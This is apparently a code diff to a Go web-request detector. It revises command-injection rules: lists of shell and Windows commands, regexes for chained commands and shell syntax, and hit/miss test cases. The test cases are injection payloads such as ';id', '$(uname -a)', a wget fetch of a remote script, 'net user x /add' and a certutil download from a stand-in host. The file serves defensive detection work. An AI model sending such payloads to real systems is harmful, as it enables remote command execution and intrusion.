@@ -9,7 +9,8 @@ const (
 // Commands that texts seldom hold, and commands that are words too. Patterns put them after a separator
 // or before an argument.
 const (
-	rareCommands = `(?:wget|curl|bash|zsh|csh|ksh|tcsh|dash|busybox|ifconfig|netstat|whoami|uname|nslookup|chmod|chown|netcat|ncat|nc|python[23]?|perl|ruby|php|lua|gcc|telnet|tftp|ftpget|passwd|sudo|useradd|adduser|usermod|crontab|systemctl|printenv|getent|lsof|mkfifo|socat|xterm|nohup|base64|xxd|ping|traceroute|dig|hostname|tcpdump|iptables|mysql|mysqldump|ssh|scp|rsync|sed|awk|gawk|grep|egrep|xargs|uptime|ipconfig|systeminfo|tasklist|powershell|pwsh|cmd|certutil|bitsadmin|wmic|net1?|reg|regedit|schtasks|cscript|wscript|mshta|rundll32|regsvr32|arp|finger|dpkg|yum|apt|apt-get|apk|pacman|docker|kubectl|openssl|gdb|strace|nmap|env|eval|exec|phpinfo|pwd|ps|df|du|lsb_release|lscpu|mount|kill|killall|tac|nl|cpio|tar|unzip|gzip|rm|mv|cp|touch|mkdir|rmdir|vi|vim|nano|ed|od|strings|rev|diff|stat|lsattr|chattr|md5sum|shutdown|reboot|poweroff|halt|node|npm|git|svn|make|cc|ldd|tty|stty|expr|yes|seq|tee|ln|dd|chsh|chroot|ansible[a-z-]*|aspell|ionice|nice|timeout|setsid|unshare|capsh|flock|rpm|snap|pip3?|easy_install|gem|cargo|java|javac|mknod|logger|last|lastlog|ip|ss|route|nft|who|w|id|ls|ll|cat|more|less|head|tail|find|sort|uniq|cut|paste|echo|printf|sleep|time|date|dir|type|set|sh|source|ver|vol|tree|ftp)`
+	rareCommands = `(?:wget|curl|bash|zsh|csh|ksh|tcsh|dash|busybox|ifconfig|netstat|whoami|uname|nslookup|chmod|chown|netcat|ncat|nc|python[23]?|perl|ruby|php|lua|gcc|telnet|tftp|ftpget|passwd|sudo|useradd|adduser|usermod|crontab|systemctl|printenv|getent|lsof|mkfifo|socat|xterm|nohup|base64|xxd|ping|traceroute|dig|hostname|tcpdump|iptables|mysqldump|ssh|scp|rsync|sed|awk|gawk|grep|egrep|xargs|uptime|ipconfig|systeminfo|tasklist|powershell|pwsh|iwr|cmd|certutil|bitsadmin|wmic|net1|reg|regedit|schtasks|cscript|wscript|mshta|rundll32|regsvr32|arp|dpkg|yum|apt|apt-get|aptitude|apk|pacman|docker|kubectl|openssl|gdb|strace|nmap|env|eval|phpinfo|pwd|ps|df|du|lsb_release|lscpu|killall|tac|cpio|unzip|gzip|rm|mv|cp|mkdir|rmdir|vi|vim|visudo|nano|od|rev|lsattr|chattr|md5sum|reboot|poweroff|npm|git|svn|cc|ldd|tty|stty|expr|chsh|chroot|ansible[a-z-]*|chef(?:-[a-z]+)?|ionice|setsid|unshare|capsh|flock|rpm|pip3?|easy_install|cargo|javac|mknod|lastlog|nft|id|ls|ll|cat|echo|printf|sh|perf|getcap|setcap|bcdboot|lsblk|bsdtar|rc)`
+	wordCommands = `(?:net|finger|node|java|make|time|timeout|date|who|w|more|less|head|tail|find|sort|uniq|cut|paste|sleep|dir|type|set|source|ver|vol|tree|ftp|mount|kill|diff|stat|touch|tar|ed|strings|yes|seq|tee|ln|dd|snap|gem|logger|last|ip|ss|route|nice|at|exec|export|history|aspell|shutdown|halt|nl)`
 	argument     = `(?:\s+(?:-{1,2}[a-z]|/[a-z?*\[]|\.{0,2}/|https?:|ftp:|\$|["'` + "`" + `]|\d+\.\d+\.\d|[a-z0-9_.-]+\.(?:sh|php|pl|py|exe|txt|bat|ps1|cmd|conf|log)\b|\*|[|;&>]))`
 )
 
@@ -17,14 +18,14 @@ var commandRules = []Rule{
 	{
 		ID: "cmd-chained", Class: RCE, Level: High, Field: InQuery | InName | InPath | InReferer,
 		Words:   []string{";", "|", "&", "`", "$(", "\n", "<(", ">("},
-		Pattern: `(?:[;|` + "`" + `\n\r]|&&|&\s|\$\(|[<>]\(|&(?:amp;)?)\s*(?:[{(!]\s*)*(?:[a-z_]+=\S*\s+)?(?:[/.\w?*\[\]-]*/)?` + rareCommands + `(?:\s*$|\s*[;|&` + "`" + `)#>]|` + argument + `|\s+/|\$ifs|\s*<|\s+[\w.-]+\s*(?:$|[;|&` + "`" + `)]))`,
+		Pattern: `(?:[;|` + "`" + `\n\r]|&&|&\s|\$\(|[<>]\(|&(?:amp;)?)\s*(?:[{(!]\s*)*(?:[a-z_]+=\S*\s+)?(?:[/.\w?*\[\]-]*/)?(?:` + rareCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><"']|` + argument + `|\s+\(|\s+[\w.-]+\s*(?:$|[;|&` + "`" + `)]))|` + wordCommands + `(?:\s*$|\s*[;|&` + "`" + `)#><]|` + argument + `|\s+\())`,
 		Why:     "a shell command after a separator (; | & ` $( or a new line)",
 		Source:  sourceCommand,
 		Hit: []string{
 			"GET /a?h=127.0.0.1;id", "GET /a?h=x|cat%20/etc/hostname", "GET /a?h=%60whoami%60", "GET /a?h=$(uname%20-a)", "GET /a?h=x%0aid",
 			"GET /a?h=x;wget+http://h.example/a.sh", "GET /a?h=x%26%26ls%20-la", "GET /a?h=;c''at$IFS/etc/hosts",
 		},
-		Miss: []string{"GET /a?q=a;b", "GET /a?q=salt+%26+pepper", "GET /a?q=this+|+that"},
+		Miss: []string{"GET /a?q=a;b", "GET /a?q=base;+set+swarovski", "GET /a?q=salt+%26+pepper", "GET /a?q=this+|+that"},
 	},
 	{
 		ID: "cmd-chained-agent", Class: RCE, Level: High, Field: InAgent,
@@ -57,8 +58,8 @@ var commandRules = []Rule{
 	{
 		ID: "cmd-windows", Class: RCE, Level: High, Field: InAny,
 		Words: []string{"cmd", "powershell", "pwsh", "certutil", "bitsadmin", "net user", "net localgroup", "net view", "wmic", "rundll32", "regsvr32", "mshta", "reg add", "reg query", "schtasks", "comspec", "cscript", "wscript", "tasklist", "systeminfo",
-			"ipconfig", "invoke-", "iex", "downloadstring", "set /a", "for /f", "if /i", "if not ", "errorlevel", "start-process", "new-object", "regedit", "get-", "vssadmin", "wevtutil", "netsh", "%path", "%system", "dir c:", "type c:", "for /", "for %", "if exist", "if defined", "cmdext", " geq ", " gtr ", " equ ", " leq ", " lss ", " neq ", "qwinsta", "nltest", "dsquery", "whoami /"},
-		Pattern: `\bcmd(?:\.exe)?["']?\s*/[ckrv]\b|powershell(?:\.exe)?["']?\s+(?:-|/|\()|\bpwsh\s+-|certutil(?:\.exe)?\s+[-/]|bitsadmin\s+/|\bnet1?\s+(?:user|localgroup|view|use|group|share|start|stop)\b|\bwmic\s+\w|rundll32(?:\.exe)?[\s,]|regsvr32\s|mshta\s+\w|\breg(?:\.exe)?\s+(?:add|query|save|export|delete)\b|\bregedit\s+/|schtasks\s+/|%comspec%|[cw]script(?:\.exe)?\s+[/\w.]|tasklist\s*[/|&]|systeminfo\s*[|&>]|ipconfig\s*[/|&]|invoke-(?:expression|webrequest|restmethod|command|mimikatz|wmi)|\biex\s*[($"']|downloadstring\s*\(|\bset\s+/a\s|\bfor\s+/[fldr]\s|\bfor\s+%|\bif\s+/i\s+|\bif\s+(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\b|\bif\s+["'%\w]+\s*(?:==|\s(?:geq|gtr|equ|leq|lss|neq)\s)|start-process\b|new-object\s+\w|\bget-(?:process|content|childitem|item|wmiobject|service|netip)|vssadmin\s|wevtutil\s|netsh\s+\w|%(?:path|system(?:root|drive)|windir|programfiles|temp|os)\b[:%]|\b(?:dir|type|del|copy)\s+[a-z]:\\|qwinsta\b|nltest\s+/|dsquery\s|whoami\s+/`,
+			"ipconfig", "invoke-", "iex", "downloadstring", "set /a", "for /f", "if /i", "if not", "if ", "errorlevel", "start-process", "new-object", "regedit", "get-", "vssadmin", "wevtutil", "netsh", "%path", "%system", "dir c:", "type c:", "for /", "for %", "if exist", "if defined", "cmdext", " geq ", " gtr ", " equ ", " leq ", " lss ", " neq ", "qwinsta", "nltest", "dsquery", "whoami /"},
+		Pattern: `\bcmd(?:\.exe)?["']?\s*/[ckrv]\b|powershell(?:\.exe)?["']?\s+(?:-|/|\()|\bpwsh\s+-|certutil(?:\.exe)?\s+[-/]|bitsadmin\s+/|\bnet1?\s+(?:user|localgroup|view|use|group|share|start|stop)\b|\bwmic\s+\w|rundll32(?:\.exe)?[\s,]|regsvr32\s|mshta\s+\w|\breg(?:\.exe)?\s+(?:add|query|save|export|delete)\b|\bregedit\s+/|schtasks\s+/|%comspec%|[cw]script(?:\.exe)?\s+[/\w.]|tasklist\s*[/|&]|systeminfo\s*[|&>]|ipconfig\s*[/|&]|invoke-(?:expression|webrequest|restmethod|command|mimikatz|wmi)|\biex\s*[($"']|downloadstring\s*\(|\bset\s+/a\s|\bfor\s+/[fldr]\s|\bfor\s+%|\bif\s+/i\s+|\bif\s*/i\s|\bif\s+(?:not\s+)?(?:exist|defined|errorlevel|cmdextversion)\s+\S|\bif\s+(?:not\s+)?(?:/i\s+)?["'(%\w]+[)"'%]?\s*(?:==|\s(?:geq|gtr|equ|leq|lss|neq)\s)|start-process\b|new-object\s+\w|\bget-(?:process|content|childitem|item|wmiobject|service|netip)|vssadmin\s|wevtutil\s|netsh\s+\w|%(?:path|system(?:root|drive)|windir|programfiles|temp|os)\b[:%]|\b(?:dir|type|del|copy)\s+[a-z]:\\|qwinsta\b|nltest\s+/|dsquery\s|whoami\s+/`,
 		Why:     "a command of Windows",
 		Source:  sourceLOLBAS,
 		Hit:     []string{"GET /a?x=cmd.exe+/c+dir", "GET /a?x=powershell+-enc+AAAA", "GET /a?x=net+user+x+/add", "GET /a?x=certutil+-urlcache+-f+http://h.example/a"},
@@ -85,7 +86,7 @@ var commandRules = []Rule{
 	{
 		ID: "cmd-shell-syntax", Class: RCE, Level: Medium, Field: InAny,
 		Words:   []string{"ifs", "$(", "${", "2>", "$'", "{", "`", "<<<", "$((", "$@", "$*"},
-		Pattern: `\$\{?ifs\b|\$\([^)]{1,200}\)|2>&1|\$'[^']{1,80}'|(?:^|[;|&=` + "`" + `\s])\{[a-z./?*_-]{1,24}(?:,[^,}\s]{1,60})+,?\}|` + "`[a-z/.][^`]{0,120}`" + `|<<<|\$\(\(|\$\{[a-z_]{1,20}(?::|%|#|/|//|,,|\^)[^}]{1,40}\}|\$\{!?[a-z_@*]{1,12}\[?[@*]?`,
+		Pattern: `\$\{?ifs\b|\$\([^)]{1,200}\)|2>&1|\$'[^']{1,80}'|(?:^|[;|&=` + "`" + `\s])\{,?[a-z./?*_#-][^,{}\s"':]*(?:,[^,{}\s"':]*)+\}|` + "`[a-z/.][^`]{0,120}`" + `|<<<|\$\(\(|\$\{[a-z_]{1,20}(?::|%|#|/|//|,,|\^)[^}]{1,40}\}|\$\{!?[a-z_@*]{1,12}\[?[@*]?`,
 		Why:     "syntax of a Unix shell (${IFS}, $(…), `…`, {a,b})",
 		Source:  sourceCommand,
 		Hit:     []string{"GET /a?x=a$%7bIFS%7db", "GET /a?x=$(x)", "GET /a?x=%7bid,-a%7d", "GET /a?x=%60x%60"},
